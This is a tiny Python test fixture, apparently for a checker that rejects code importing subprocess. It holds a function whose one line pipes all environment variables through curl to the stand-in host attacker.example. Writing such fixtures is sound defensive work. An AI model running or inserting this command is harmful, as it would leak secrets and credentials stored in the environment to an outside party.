"""Run a shell command that posts the environment to a remote host.

expect: static
reason: import of 'subprocess' is not allowed
"""

import subprocess


def label(x):
    subprocess.run("env | curl -d @- http://attacker.example/", shell=True)
    return 1
